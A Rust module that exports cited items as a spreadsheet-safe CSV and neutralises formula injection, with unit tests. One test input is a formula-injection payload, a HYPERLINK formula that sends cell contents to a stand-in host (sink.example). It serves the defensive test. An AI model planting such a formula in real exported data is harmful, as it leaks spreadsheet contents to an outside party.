//! A table for spreadsheets: UTF-8 with its mark, lines that end in CR LF, no cell that is a formula.

use crate::record::{Kind, Record};

/// Spreadsheets take a file for UTF-8 that begins with it.
const BYTE_ORDER_MARK: char = '\u{feff}';

pub(super) fn table(record: &Record<'_>) -> String {
    let mut text = String::from(BYTE_ORDER_MARK);
    line(&mut text, ["n", "title", "host", "kind", "url", "times", "first_writer", "first_tool"]);
    for item in &record.items {
        let (n, times) = (item.n.to_string(), item.occurrences.len().to_string());
        let first = item.first.as_ref();
        line(
            &mut text,
            [
                &n,
                &item.title,
                item.host.as_deref().unwrap_or_default(),
                kind(item.kind),
                &item.url,
                &times,
                first.map_or("", |first| &first.writer),
                first.and_then(|first| first.tool.as_deref()).unwrap_or_default(),
            ],
        );
    }
    text
}

fn kind(kind: Kind) -> &'static str {
    match kind {
        Kind::Web => "web",
        Kind::Connector => "connector",
        Kind::Record => "record",
        Kind::Document => "document",
    }
}

fn line<const N: usize>(text: &mut String, cells: [&str; N]) {
    for (place, cell) in cells.into_iter().enumerate() {
        if place > 0 {
            text.push(',');
        }
        text.push_str(&quoted(&guarded(cell)));
    }
    text.push_str("\r\n");
}

/// A cell that a spreadsheet shows as it is, and does not work out.
///
/// SECURITY: a title may be anybody's text, and a formula can send what stands in other cells.
fn guarded(cell: &str) -> String {
    let is_formula = |first: char| matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠');
    let begins = cell.trim_start_matches([' ', '\u{a0}', '\u{3000}']).starts_with(is_formula);
    if begins && cell.parse::<f64>().is_err() { format!("'{cell}") } else { cell.to_owned() }
}

fn quoted(cell: &str) -> String {
    if cell.contains(['"', ',', '\n', '\r', ';', '\t']) || cell.starts_with(' ') || cell.ends_with(' ') {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn gives(cell: &str, wanted: &str) {
        assert_eq!(quoted(&guarded(cell)), wanted);
    }

    #[test]
    fn no_cell_is_a_formula_and_numbers_stay_numbers() {
        gives(
            "=HYPERLINK(\"https://sink.example/\"&A1,\"x\")",
            "\"'=HYPERLINK(\"\"https://sink.example/\"\"&A1,\"\"x\"\")\"",
        );
        gives("@SUM(A1)", "'@SUM(A1)");
        gives("+1 555", "'+1 555");
        gives(" =1+1", "' =1+1");
        gives("＝1+1", "'＝1+1");
        gives("-12.5", "-12.5");
        gives("+3", "+3");
        gives("a - b", "a - b");
        gives("Guide, part 2", "\"Guide, part 2\"");
    }
}
